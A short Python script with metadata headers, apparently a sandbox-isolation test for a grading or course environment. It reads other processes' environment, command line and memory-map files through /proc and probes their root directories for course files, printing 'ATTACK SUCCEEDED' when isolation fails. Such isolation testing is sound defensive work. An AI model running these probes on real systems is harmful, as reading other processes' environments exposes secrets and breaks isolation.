# what: other processes, their environments, memory and roots are read through /proc
# base: solution
# score: 5
# report: /proc
# %% place="after total"
import glob
import os

for name in glob.glob("/proc/*/*"):
    if name.rsplit("/", 1)[1] in ("environ", "cmdline", "maps", "mountinfo", "status") and not name.startswith(
        "/proc/sys"
    ):
        try:
            print(name, open(name, "rb").read()[:5000])
        except OSError:
            pass
others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
if others:
    print("ATTACK SUCCEEDED: other processes are seen", others)
for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    if os.path.exists(root + "@COURSE@"):
        print("ATTACK SUCCEEDED: the course by way of", root)
